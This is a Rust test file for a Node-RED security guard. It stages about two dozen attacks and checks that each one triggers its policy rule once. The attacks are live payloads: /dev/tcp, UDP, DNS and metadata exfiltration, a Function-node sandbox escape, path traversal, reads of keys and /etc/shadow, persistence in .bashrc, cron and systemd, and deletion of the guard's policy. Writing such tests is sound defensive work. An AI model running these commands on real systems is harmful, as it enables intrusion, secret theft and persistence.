//! What an intruder at the editor does, one attack after the other, against the policy that `flowwarden init` writes: each
//! meets the rule that is there for it and no other, once, and does no harm where a rule forbids it.
//!
//! The numbers are those of the table in docs/explanation/scenarios.md, which is held against this one. Number 9 and 23, what has to
//! stay allowed, are `keys.rs` and `releases.rs`; 20 is `editor.rs`.

use std::{
    collections::BTreeSet,
    fs,
    net::{IpAddr, Ipv4Addr},
    os::unix::fs::{PermissionsExt as _, chown},
    os::unix::net::UnixListener,
    path::{Path, PathBuf},
    time::Duration,
};

use anyhow::{Context as _, Result, ensure};
use flowwarden_tests::{
    cli,
    flows::{FileAction, Flow, js},
    guard::Guard,
    needs, node_red,
    node_red::NodeRed,
    own, package,
    policy::Policy,
    record::Record,
    scene::Scene,
    sink::Sink,
    wait,
};
use serde_json::json;

use crate::stage::{Actor, Neighbour, copy};

/// What must not come out.
const SECRET: &str = "-----THE SECRET-----";
/// One of the addresses in the preset that answer names over https; here it is in the world of the test.
const DOH: IpAddr = IpAddr::V4(Ipv4Addr::new(1, 1, 1, 1));
/// The table that people read.
const TABLE: &str = include_str!("../../../docs/explanation/scenarios.md");

/// How the attack is made.
enum Act {
    /// By a flow.
    Play(Flow),
    /// By a flow that does it when it is deployed.
    Deploy(Flow),
    /// By a request to the admin API.
    Ask(&'static str, String),
}

/// What the attack is after.
enum Harm {
    /// A file is made, changed or removed.
    Changes(PathBuf),
    /// A text is printed.
    Prints(&'static str),
    /// Something arrives.
    Reaches(Sink),
    /// Somebody connects.
    Connects(UnixListener),
}

pub(super) struct Attack {
    pub(super) number: u8,
    pub(super) what: &'static str,
    /// Every rule that speaks, in the order of the alphabet.
    pub(super) rules: &'static [&'static str],
    /// Whether the last of them stops it: `deny` here stands for a kill too, where the sensor cannot deny.
    verdict: &'static str,
    act: Act,
    harm: Harm,
}

impl Attack {
    fn row(&self) -> String {
        format!("| {} | {} | `{}` | {} |", self.number, self.what, self.rules.join("`, `"), self.verdict)
    }
}

/// The rows of the table that people read about a preset: those that stand below its name.
fn rows_under(preset: &str) -> Vec<&'static str> {
    let preset = format!("`{preset}`");
    let below = TABLE.lines().skip_while(|line| !line.contains(&preset)).skip_while(|line| !line.starts_with('|'));
    below.take_while(|line| line.starts_with('|')).skip(2).collect()
}

/// Processes that are not the instance's, with a secret in their environment.
pub(super) struct Bystanders {
    users: Neighbour,
    roots: Neighbour,
}

impl Bystanders {
    pub(super) fn new(scene: &Scene) -> Result<Self> {
        let with_secret = |uid| Neighbour::with_secret(scene, uid, SECRET);
        Ok(Self { users: with_secret(scene.node_red.confinement().uid)?, roots: with_secret(0)? })
    }
}

/// A file as it is, to be put back.
fn content(path: &Path) -> Option<Vec<u8>> {
    fs::read(path).ok()
}

fn put_back(scene: &Scene, path: &Path, before: Option<&Vec<u8>>) -> Result<()> {
    match before {
        Some(bytes) if content(path).as_ref() == Some(bytes) => {}
        Some(bytes) => {
            fs::write(path, bytes)?;
            let uid = scene.node_red.confinement().uid;
            chown(path, Some(uid), Some(uid))?;
        }
        None => fs::remove_file(path).or_else(|error| if path.exists() { Err(error) } else { Ok(()) })?,
    }
    Ok(())
}

/// Makes the attack; a Node-RED that dies of it is none of the attack's concern.
fn make(scene: &mut Scene, act: &Act) -> Result<String> {
    scene.node_red.start()?;
    match act {
        Act::Play(flow) => Ok(format!("{:?}", scene.node_red.play(flow)?)),
        Act::Deploy(flow) => {
            let console = scene.node_red.console();
            let mark = console.mark();
            let answer = scene.node_red.http("POST", "/flows", &flow.to_json());
            // Node-RED answers while npm is at work still.
            wait::until("the end of an installation", wait::PATIENCE, || {
                Ok(console.find(mark, |line| line.ends_with("Started flows") || line.contains(" failed:")))
            })?;
            Ok(format!("{answer:?}"))
        }
        Act::Ask(method, path) => Ok(format!("{:?}", scene.node_red.http(method, path, ""))),
    }
}

/// Whether the attack has had its way since `mark` on the console; `before` is what was in the file. One that was opened
/// for writing and has nothing in it does nothing: its maker was killed before it wrote.
fn is_done(scene: &Scene, harm: &Harm, mark: usize, before: Option<&Vec<u8>>) -> bool {
    match harm {
        Harm::Changes(path) => {
            let now = content(path);
            now.as_ref() != before && !(before.is_none() && now.is_some_and(|bytes| bytes.is_empty()))
        }
        Harm::Prints(text) => scene.node_red.console().find(mark, |line| line.contains(text)).is_some(),
        Harm::Reaches(sink) => sink.count() > 0,
        Harm::Connects(listener) => listener.accept().is_ok(),
    }
}

fn function(code: &str) -> Act {
    Act::Play(Flow::function(code, &["fs", "net", "dgram", "dns", "worker_threads"]))
}

fn exec(command: &str) -> Act {
    Act::Play(Flow::exec(command))
}

/// A Node-RED with Projects, and with what is there to be stolen.
pub(super) fn stage() -> Result<Scene> {
    let mut scene = Scene::new()?;
    let settings = fs::read_to_string(scene.node_red.settings())?;
    let projects = settings.replacen("projects: {", "projects: { enabled: true, ignored: {} }, was: {", 1);
    ensure!(projects != settings, "the settings say nothing about Projects");
    scene.node_red.stop()?;
    fs::write(scene.node_red.settings(), projects.replace("enabled: true, ignored: {}", "enabled: true"))?;
    lay_out(&scene)?;
    scene.node_red.start()?;
    Ok(scene)
}

/// Lays out what attacks are after.
pub(super) fn lay_out(scene: &Scene) -> Result<()> {
    scene.network.move_to_world(DOH)?;
    let home = scene.node_red.home();
    for directory in
        [".node-red/node_modules/kept", ".node-red/projects/plant/.git/hooks", ".ssh", ".config/systemd/user"]
    {
        let mut made = home.path().to_owned();
        for part in Path::new(directory) {
            made.push(part);
            home.directory(&made.strip_prefix(home.path())?.display().to_string())?;
        }
    }
    home.file(".node-red/key.pem", SECRET)?;
    home.file(".ssh/id_ed25519", SECRET)?;
    home.file(".bashrc", "# nothing\n")?;
    // Node-RED lets npm ask its registry, which is not in this network.
    home.file(".npmrc", "offline=true\naudit=false\nfund=false\n")?;
    Ok(())
}

/// A copy of a program that runs as root for everybody, as sudo does.
fn as_root(scene: &Scene, program: &str) -> Result<PathBuf> {
    copy(scene, &needs::program(program)?, 0o4755)
}

/// A socket of the user's own container engine.
fn engine(uid: u32) -> Result<(PathBuf, UnixListener)> {
    let directory = PathBuf::from(format!("/run/user/{uid}"));
    fs::create_dir_all(&directory)?;
    chown(&directory, Some(uid), Some(uid))?;
    let socket = directory.join("docker.sock");
    let _ = fs::remove_file(&socket);
    let listener = UnixListener::bind(&socket)?;
    listener.set_nonblocking(true)?;
    chown(&socket, Some(uid), Some(uid))?;
    Ok((socket, listener))
}

fn settings_attacks(node_red: &NodeRed) -> Result<Vec<(u8, &'static str, Act)>> {
    let settings = node_red.settings();
    let target = js(&settings);
    let name = js(&node_red.home().path().join("alias.js"));
    let ring = format!("require('fs').promises.appendFile({target}, 'TAMPERED')");
    let ring = node_red.home().file("ring.js", &ring)?;
    let node = node_red::node_with_io_uring()?;
    // The request removes this one first.
    node_red.home().file(".node-red/settings.js.pub", "")?;
    Ok(vec![
        (1, "a file node overwrites settings.js", Act::Play(Flow::file(&settings, FileAction::Overwrite, "TAMPERED"))),
        (
            2,
            "another file is moved over settings.js",
            function(&format!("fs.writeFileSync({name}, 'TAMPERED'); fs.renameSync({name}, {target}); return msg;")),
        ),
        (
            3,
            "settings.js is written to by a second name",
            function(&format!(
                "fs.linkSync({target}, {name} + '2'); fs.appendFileSync({name} + '2', 'TAMPERED'); return msg;"
            )),
        ),
        (
            4,
            "settings.js is cut through /proc/self/root",
            function(&format!("fs.truncateSync('/proc/self/root' + {target}, 3); return msg;")),
        ),
        (
            5,
            "the sandbox is left without any library",
            function(&format!(
                "const process = Buffer.constructor('return process')();
             process.mainModule.require('fs').appendFileSync({target}, 'TAMPERED'); return msg;"
            )),
        ),
        (
            6,
            "a program writes by io_uring",
            exec(&format!("UV_USE_IO_URING=1 '{}' '{}'", node.display(), ring.display())),
        ),
        (
            7,
            "a worker thread writes",
            function(&format!(
                "const code = `require('fs').appendFileSync(${{JSON.stringify({target})}}, 'TAMPERED')`;
             new worker_threads.Worker(code, {{ eval: true }}).on('exit', () => node.send(msg)); return;"
            )),
        ),
        (
            21,
            "the key API of Projects removes a file elsewhere",
            Act::Ask("DELETE", "/settings/user/keys/%2f..%2f..%2f..%2fsettings.js".to_owned()),
        ),
    ])
}

/// Takes a package away again, and what npm has written about it.
fn uninstall(scene: &Scene, package_json: &[u8]) -> Result<()> {
    let user_dir = scene.node_red.home().user_dir();
    let modules = user_dir.join("node_modules");
    fs::remove_dir_all(modules.join(package::NAME))?;
    for file in [user_dir.join("package-lock.json"), modules.join(".package-lock.json")] {
        fs::remove_file(&file).or_else(|error| if file.exists() { Err(error) } else { Ok(()) })?;
    }
    Ok(fs::write(user_dir.join("package.json"), package_json)?)
}

#[expect(clippy::too_many_lines, reason = "a table")]
pub(super) fn attacks(scene: &Scene, bystanders: &Bystanders) -> Result<Vec<Attack>> {
    let node_red = &scene.node_red;
    let (home, uid) = (node_red.home(), node_red.confinement().uid);
    let (user_dir, path) = (home.user_dir(), |name: &str| home.path().join(name));
    let mut all: Vec<Attack> = settings_attacks(node_red)?
        .into_iter()
        .map(|(number, what, act)| Attack {
            number,
            what,
            rules: &["settings-js"],
            verdict: "deny",
            act,
            harm: Harm::Changes(node_red.settings()),
        })
        .collect();
    let mut add = |number, what, rules, verdict, act, harm| {
        all.push(Attack { number, what, rules, verdict, act, harm });
    };

    add(
        8,
        "a file-in node reads a private key",
        &["private-keys"],
        "deny",
        Act::Play(Flow::file_in(&user_dir.join("key.pem"))),
        Harm::Prints(SECRET),
    );
    add(
        8,
        "a file-in node reads the user's key",
        &["user-keys"],
        "deny",
        Act::Play(Flow::file_in(&path(".ssh/id_ed25519"))),
        Harm::Prints(SECRET),
    );
    add(
        8,
        "a file-in node reads the environment of another process",
        &["process-environments"],
        "deny",
        Act::Play(Flow::file_in(Path::new(&format!("/proc/{}/environ", bystanders.users.pid())))),
        Harm::Prints(SECRET),
    );
    add(
        8,
        "the environment of a service of root's, by sudo",
        &["default-privilege", "process-environments"],
        "deny",
        exec(&format!(
            "'{}' /proc/{}/environ | tr '\\0' '\\n'",
            as_root(scene, "cat")?.display(),
            bystanders.roots.pid()
        )),
        Harm::Prints(SECRET),
    );

    let tcp = |address| Sink::tcp(&scene.network, address);
    let outside = tcp(flowwarden_tests::netns::Network::FORBIDDEN)?;
    let to = outside.address();
    add(
        10,
        "a shell connects to the Internet",
        &["default-egress"],
        "log",
        exec(&format!("exec 3<>/dev/tcp/{}/{} && echo stolen >&3", to.ip(), to.port())),
        Harm::Reaches(outside),
    );

    let dropped = format!("/tmp/{}", own::name());
    let proof = path("proof");
    add(
        11,
        "a program is brought to /tmp and run",
        &["dropped-programs"],
        "deny",
        exec(&format!("cp \"$(command -v tee)\" {dropped}; echo x | {dropped} '{}'; rm {dropped}", proof.display())),
        Harm::Changes(proof),
    );
    // The program reads this file.
    home.file("read", SECRET)?;
    let actor = Actor::new(scene)?;
    let unnamed =
        format!("{:?}", actor.does(&format!("run-unnamed {}", needs::executed("cat")?.display()))).replace('"', "'");
    add(
        11,
        "a program runs from memory",
        &["default-exec-unnamed"],
        "deny",
        exec(&format!("cd '{}'; {unnamed}", home.path().display())),
        Harm::Prints(SECRET),
    );

    // npm removes what nothing depends on.
    home.directory(".node-red/node_modules/kept")?;
    let module = home.file(".node-red/node_modules/kept/index.js", "// kept\n")?;
    add(
        12,
        "a flow changes a package",
        &["palette"],
        "deny",
        function(&format!("fs.appendFileSync({}, 'TAMPERED'); return msg;", js(&module))),
        Harm::Changes(module),
    );
    let tarball = path("probe.tgz");
    fs::write(&tarball, package::tarball("1.0.0", &json!({ "postinstall": "node -e 0" }))?)?;
    fs::set_permissions(&tarball, fs::Permissions::from_mode(0o644))?;
    let installed = user_dir.join("node_modules").join(package::NAME).join("package.json");
    add(
        12,
        "npm installs a package past the palette",
        &["palette"],
        "deny",
        exec(&format!(
            "npm install --offline --no-audit --no-fund --prefix '{}' '{}'",
            user_dir.display(),
            tarball.display()
        )),
        Harm::Changes(installed.clone()),
    );
    let library = format!("{}@file:{}", package::NAME, tarball.display());
    add(
        13,
        "a Function node asks for a library that is not there",
        &["palette"],
        "deny",
        Act::Deploy(Flow::with_library("return msg;", "probe", &library)),
        Harm::Changes(installed),
    );

    for (what, mapped) in [
        ("a flow asks for cloud credentials", ""),
        ("a flow asks for cloud credentials by a v4-mapped address", "::ffff:"),
    ] {
        let metadata = tcp(flowwarden_tests::netns::Network::METADATA)?;
        let to = metadata.address();
        let code = format!(
            "const socket = net.connect({{ host: '{mapped}{}', port: {} }}, () => socket.end('stolen'));
             socket.resume(); socket.on('error', error => node.error(error.message, msg));
             socket.on('close', failed => {{ if (!failed) node.send(msg); }}); return;",
            to.ip(),
            to.port()
        );
        add(14, what, &["cloud-metadata"], "deny", function(&code), Harm::Reaches(metadata));
    }

    let udp = Sink::udp(&scene.network, flowwarden_tests::netns::Network::FORBIDDEN)?;
    let to = udp.address();
    add(
        15,
        "a flow sends datagrams to the Internet",
        &["default-egress"],
        "log",
        function(&format!(
            "const socket = dgram.createSocket('udp4');
             socket.send('stolen', {}, '{}', () => {{ socket.close(); node.send(msg); }}); return;",
            to.port(),
            to.ip()
        )),
        Harm::Reaches(udp),
    );
    let dns = Sink::udp_at(&scene.network, (flowwarden_tests::netns::Network::FORBIDDEN, 53).into())?;
    add(
        15,
        "a flow asks a DNS server of its own",
        &["own-dns"],
        "log",
        function(&format!(
            "const resolver = new dns.Resolver({{ timeout: 200, tries: 1 }}); resolver.setServers(['{}']);
             resolver.resolveTxt('c3RvbGVu.example.net', () => node.send(msg)); return;",
            dns.address().ip()
        )),
        Harm::Reaches(dns),
    );

    let doh = Sink::tcp_at(&scene.network, (DOH, 443).into())?;
    add(
        15,
        "a flow asks for names over https",
        &["dns-over-https"],
        "log",
        function(&format!(
            "const socket = net.connect(443, '{DOH}', () => socket.end('stolen'));
             socket.on('error', error => node.error(error.message, msg)); socket.on('close', () => node.send(msg));
             socket.resume(); return;"
        )),
        Harm::Reaches(doh),
    );

    let (socket, listener) = engine(uid)?;
    add(
        16,
        "a flow talks to a container engine",
        &["container-engines"],
        "deny",
        function(&format!(
            "const socket = net.connect({}, () => {{ socket.end(); node.send(msg); }});
             socket.on('error', error => node.error(error.message, msg)); return;",
            js(&socket)
        )),
        Harm::Connects(listener),
    );

    for (what, rule, verdict, file) in [
        ("a line for the next login", "user-persistence", "deny", path(".bashrc")),
        ("a unit for the user's systemd", "user-persistence", "deny", path(".config/systemd/user/x.service")),
        ("options for Node-RED's next start", "environment", "deny", user_dir.join("environment")),
        ("a hook of git", "git-hooks", "log", user_dir.join("projects/plant/.git/hooks/post-checkout")),
    ] {
        let rules: &'static [&'static str] = match rule {
            "environment" => &["environment"],
            "git-hooks" => &["git-hooks"],
            _ => &["user-persistence"],
        };
        add(
            17,
            what,
            rules,
            verdict,
            function(&format!("fs.appendFileSync({}, '# x'); return msg;", js(&file))),
            Harm::Changes(file),
        );
    }
    let job = PathBuf::from(format!("/etc/cron.d/{}", own::name()));
    add(
        17,
        "a job for cron, by sudo",
        &["default-privilege", "host-persistence"],
        "deny",
        exec(&format!("echo '# x' | '{}' '{}'", as_root(scene, "tee")?.display(), job.display())),
        Harm::Changes(job),
    );
    add(
        18,
        "password hashes, by sudo",
        &["default-privilege", "host-keys"],
        "deny",
        exec(&format!("'{}' /etc/shadow", as_root(scene, "cat")?.display())),
        Harm::Prints("root:"),
    );
    Ok(all)
}

/// The guard itself: there is none to be attacked without one.
pub(super) fn on_the_guard(scene: &Scene, guard: &Guard) -> Result<Attack> {
    Ok(Attack {
        number: 22,
        what: "the guard's policy is removed, by sudo",
        rules: &["default-privilege", "guard-files"],
        verdict: "deny",
        act: exec(&format!("'{}' '{}'", as_root(scene, "rm")?.display(), guard.policy_file().display())),
        harm: Harm::Changes(guard.policy_file()),
    })
}

/// An alert as a finding: a rule and what it is about.
fn findings(records: &[Record]) -> BTreeSet<(String, String)> {
    let object = |record: &Record| match (record.path(), record.ip()) {
        ("", Some(ip)) => ip.to_string(),
        ("", None) => record.hook().to_owned(),
        (path, _) => path.to_owned(),
    };
    records.iter().map(|record| (record.rule().to_owned(), object(record))).collect()
}

/// What came of an attack under guard.
#[derive(Debug)]
pub(super) struct Played {
    /// How it ended for Node-RED.
    pub(super) outcome: Result<String>,
    /// The alerts, in their order.
    pub(super) alerts: Vec<Record>,
    /// Whether it had its way.
    pub(super) done: bool,
}

impl Played {
    /// Whether a rule has stopped something.
    pub(super) fn is_stopped_by(&self, rule: &str) -> bool {
        self.alerts.iter().any(|alert| alert.rule() == rule && matches!(alert.verdict(), "deny" | "kill"))
    }

    /// Where the kernel cannot refuse, what was done at the same moment may be there, and the record says so.
    pub(super) fn is_late(&self) -> bool {
        self.alerts.iter().any(|alert| alert.has_flag("after") || alert.has_flag("damaged"))
    }
}

/// Plays one attack under guard until one of these rules has spoken, and takes back what it has done. settings.js is left to
/// the guard.
pub(super) fn play(scene: &mut Scene, guard: &Guard, attack: &Attack, rules: &[&str]) -> Result<Played> {
    scene.node_red.start()?;
    let file = if let Harm::Changes(path) = &attack.harm { Some(path.clone()) } else { None };
    let before = file.as_deref().and_then(content);
    let (known, mark) = (guard.journal()?.len(), scene.node_red.console().mark());
    let outcome = make(scene, &attack.act);
    let _ = wait::until("its alert", wait::SOON, || {
        let new = guard.journal()?.split_off(known);
        Ok(new.iter().any(|record| record.is_alert() && rules.contains(&record.rule())).then_some(()))
    });
    // What comes of it a moment later counts as well: a second alert, and what is put back.
    wait::pause(Duration::from_millis(700))?;
    let alerts = guard.journal()?.split_off(known).into_iter().filter(Record::is_alert).collect();
    let done = is_done(scene, &attack.harm, mark, before.as_ref());
    if let Some(path) = file.filter(|path| *path != scene.node_red.settings()) {
        put_back(scene, &path, before.as_ref())?;
    }
    let _ = fs::remove_file(scene.node_red.home().path().join("alias.js2"));
    Ok(Played { outcome, alerts, done })
}

/// Plays one attack under guard, which its rules meet, once and no others.
fn guarded(scene: &mut Scene, guard: &Guard, attack: &Attack) -> Result<()> {
    let Attack { number, what, .. } = attack;
    let last = attack.rules.last().context("an attack without a rule")?;
    let played = play(scene, guard, attack, &[last])?;
    let rules: Vec<_> = played.alerts.iter().map(Record::rule).collect::<BTreeSet<_>>().into_iter().collect();
    ensure!(rules == attack.rules, "{number}, {what}: {rules:?}; {played:#?}");
    let found = findings(&played.alerts);
    ensure!(found.len() == attack.rules.len(), "{number}, {what}: more than one incident: {found:?}");
    let stopped = played.is_stopped_by(last);
    ensure!(stopped == (attack.verdict == "deny"), "{number}, {what}: {played:#?}");
    ensure!(!stopped || played.is_late() || !played.done, "{number}, {what}: it was done: {played:#?}");
    ensure!(*last != "settings-js" || !played.done, "{number}, {what}: settings.js is not as it was: {played:#?}");
    Ok(())
}

/// What an instance does to its neighbour, under `multi-tenant`. The rules are named after the neighbour, here `b`.
fn on_a_neighbour(neighbour: &NodeRed) -> Result<[Attack; 2]> {
    let secret = neighbour.home().file(".node-red/flows_cred.json", SECRET)?;
    let connect = format!(
        "const socket = net.connect({}, '127.0.0.1', () => {{ socket.end(); node.warn('{SECRET}'); node.send(msg); }});
         socket.on('error', error => node.error(error.message, msg)); return;",
        neighbour.port()
    );
    let attack =
        |what, rules, act| Attack { number: 19, what, rules, verdict: "deny", act, harm: Harm::Prints(SECRET) };
    // The one that Node-RED may be killed for comes last: at its start it says more.
    Ok([
        attack("a flow connects to the editor of another instance", &["neighbour-ports-b"], function(&connect)),
        attack("a flow reads the credentials of another instance", &["neighbour-b"], Act::Play(Flow::file_in(&secret))),
    ])
}

#[test]
fn an_instance_reaches_neither_the_files_nor_the_ports_of_another() -> Result<()> {
    let mut scene = Scene::new()?;
    let neighbour = scene.neighbour()?;
    let attacks = on_a_neighbour(&neighbour)?;
    let rows: Vec<_> = attacks.iter().map(Attack::row).collect();
    ensure!(
        rows_under("multi-tenant") == rows,
        "docs/explanation/scenarios.md has another table:\n{}",
        rows.join("\n")
    );
    for attack in &attacks {
        let mark = scene.node_red.console().mark();
        let outcome = make(&mut scene, &attack.act)?;
        ensure!(is_done(&scene, &attack.harm, mark, None), "{}: no harm even without a guard: {outcome}", attack.what);
    }
    let name = cli::discover(&neighbour)?["name"].as_str().context("no name")?.to_owned();
    let policy = Policy::preset("multi-tenant", &scene.node_red)?;
    let policy = policy.but(&format!("neighbour-{name}"), "neighbour-b")?;
    let policy = policy.but(&format!("neighbour-ports-{name}"), "neighbour-ports-b")?;
    let guard = Guard::start(Some(&policy), &scene.cgroup, &[])?;
    for attack in &attacks {
        guarded(&mut scene, &guard, attack)?;
    }
    guard.stop().map(drop)
}

#[test]
fn every_attack_meets_its_rule_once() -> Result<()> {
    let mut scene = stage()?;
    let bystanders = Bystanders::new(&scene)?;
    let package_json = fs::read(scene.node_red.home().user_dir().join("package.json"))?;
    let freely = attacks(&scene, &bystanders)?;
    let rows: Vec<_> = freely.iter().map(Attack::row).collect();
    ensure!(
        rows_under("standard") == rows,
        "docs/explanation/scenarios.md has another table; this is what is played:\n{}",
        rows.join("\n")
    );
    for attack in &freely {
        let file = if let Harm::Changes(path) = &attack.harm { Some(path.clone()) } else { None };
        let before = file.as_deref().and_then(content);
        let mark = scene.node_red.console().mark();
        let outcome = make(&mut scene, &attack.act)?;
        let done = || Ok(is_done(&scene, &attack.harm, mark, before.as_ref()).then_some(()));
        let what = format!("what is to be prevented ({}, {}: {outcome})", attack.number, attack.what);
        wait::until(&what, wait::SOON, done)?;
        if let Some(path) = &file {
            put_back(&scene, path, before.as_ref())?;
        }
        if file.is_some_and(|path| path.ends_with(format!("{}/package.json", package::NAME))) {
            uninstall(&scene, &package_json)?;
        }
        let _ = fs::remove_file(scene.node_red.home().path().join("alias.js2"));
    }
    drop(freely);

    // The sinks of the first time have been reached already.
    let attacks = attacks(&scene, &bystanders)?;
    let policy = Policy::preset("standard", &scene.node_red)?;
    let guard = Guard::start(Some(&policy), &scene.cgroup, &[])?;
    let mut wrong = Vec::new();
    for attack in &attacks {
        if let Err(error) = guarded(&mut scene, &guard, attack) {
            wrong.push(format!("{error:#}"));
        }
    }
    ensure!(wrong.is_empty(), "{}", wrong.join("\n\n"));

    let last = on_the_guard(&scene, &guard)?;
    guarded(&mut scene, &guard, &last)?;
    guard.stop().map(drop)
}
